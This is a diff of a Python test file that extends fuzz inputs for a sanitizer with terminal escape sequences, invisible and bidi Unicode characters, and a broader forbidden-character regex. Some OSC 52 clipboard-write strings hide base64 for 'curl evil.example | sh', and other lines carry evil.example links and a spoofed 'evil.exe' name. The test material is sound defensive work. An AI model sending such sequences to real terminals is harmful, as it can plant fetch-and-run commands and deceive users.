@@ -40,6 +40,16 @@ ANSI = [
     "\x1bP+q544e\x1b\\",  # DCS
     "\x1b_apc payload\x1b\\",
     "\x1bc",  # full reset
+    # OSC ended by ST (ESC \\) and by the 8-bit ST (U+009C), and the other OSCs terminals act on
+    "\x1b]52;p;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x9c",
+    "\x1b]0;pwned title, 8-bit ST\x9c",
+    "\x1b]2;window title\x1b\\ \x1b]1;icon title\x1b\\",
+    "\x1b]7;file://evil.example/tmp\x1b\\",
+    "\x1b]9;notification\x1b\\ \x1b]777;notify;title;body\x1b\\",
+    "\x1b]1337;File=name=eA==;inline=1:eA==\x07",
+    "\x1b]4;1;rgb:ff/00/00\x1b\\ \x1b]10;?\x1b\\",  # palette change, colour query (a reply)
+    "\x1b[?1049h\x1b[?25l\x1b[?1000h",  # alternate screen, hidden cursor, mouse reporting
+    "\x1b[>0q\x1b[21t",  # version and title reports: the terminal types a reply
 ]
 
 C1_AND_C0 = [
@@ -52,9 +62,31 @@ C1_AND_C0 = [
     "bell\x07\x07",
     "carriage\rreturn overwrite",
     "del\x7f",
+    # 8-bit C1 written as UTF-8 (C2 9D ...): OSC, ST, DCS, APC, PM, SOS, CSI, single shifts
+    "\u009d52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u009c",
+    "\u009d0;8-bit title\u0007",
+    "\u009d8;;https://evil.example\u009clink\u009d8;;\u009c",
+    "\u0090+q544e\u009c \u009fapc\u009c \u009epm\u009c \u0098sos\u009c",
+    "\u009b6n \u009b?1049h \u008eG \u008fH \u0084ind \u0088hts",
 ]
 
 INVISIBLE_ONLY = "\u3164\u115f\u2028\u2029"  # invisible "letters" and separators: nothing to show
+# Names with nothing visible: Braille blank, combining grapheme joiner, a variation selector from
+# the supplement, a Khmer inherent vowel, VS16, the object replacement character, an Egyptian
+# format control (Unicode 15) and a code point unassigned in Python 3.11's Unicode.
+BLANK_NAMES = [INVISIBLE_ONLY, "\u2800", "\u034f", "\U000e0100", "\u17b4", "\ufe0f", "\ufffc", "\U00013439", "\u1cbb",
+               "\u2800\u3164 \u034f\ufe0f"]
+TAGS_AND_SEPARATORS = [
+    "\U000e0001\U000e0065\U000e006e tagged \U000e0041\U000e0042\U000e007f",  # tag characters: invisible ASCII
+    "Robert Real\U000e0041",
+    "flag \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
+    "\ufff9annotated\ufffaruby\ufffb text",  # interlinear annotation
+    "Sar\u2028ah Whitfield",
+    "line\u2028separator\u2029paragraph",
+    "joiner\u034fselector\ufe0f\U000e0100mongolian\u180b\u180e\u17b4",
+    "egyptian\U00013430\U00013439\U0001343f format",
+    "soft\u00adhyphen \u0600arabic\u06dd\u070f\u08e2 \U000110bdkaithi",
+]
 BIDI_AND_INVISIBLE = [
     "\u202eevil.exe",
     "\u202dforced ltr\u202c",
@@ -63,7 +95,8 @@ BIDI_AND_INVISIBLE = [
     "zero\u200bwidth\u200cjoin\u200dx\ufeff",
     "word\u2060joiner\u2061\u2062\u2063\u2064",
     "Z" + "\u0301\u0310\u0337" * 300,  # a flood of combining marks
-    INVISIBLE_ONLY,
+    *TAGS_AND_SEPARATORS,
+    *BLANK_NAMES,
 ]
 
 HUGE = [
@@ -113,8 +146,16 @@ LONE_SURROGATE_JSON = ["\\ud800 high alone", "low alone \\udfff", "\\udbff\\u004
 
 # ------------------------------------------------------------------------------------ oracle
 
-# ESC, BEL, every other C0 control but newline, DEL, C1, bidi controls, and zero-width characters.
-_FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\ud800-\udfff]")
+# ESC, BEL, every other C0 control but newline, DEL, C1 (however encoded: in a str it is one code
+# point), bidi controls, zero-width characters and the other invisible formatting a stranger can use
+# to make text look like something else: tag characters, interlinear annotations, line and
+# paragraph separators, the combining grapheme joiner, variation selectors, the Egyptian format
+# controls, soft hyphen and the Mongolian vowel separator.
+_FORBIDDEN = re.compile(
+    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\ud800-\udfff"
+    "\U000e0000-\U000e007f\ufff9-\ufffb\u2028\u2029\u034f\ufe00-\ufe0f\U000e0100-\U000e01ef"
+    "\U00013430-\U0001343f\u00ad\u180b-\u180f]"
+)
 
 
 def forbidden(text: str) -> list[str]:
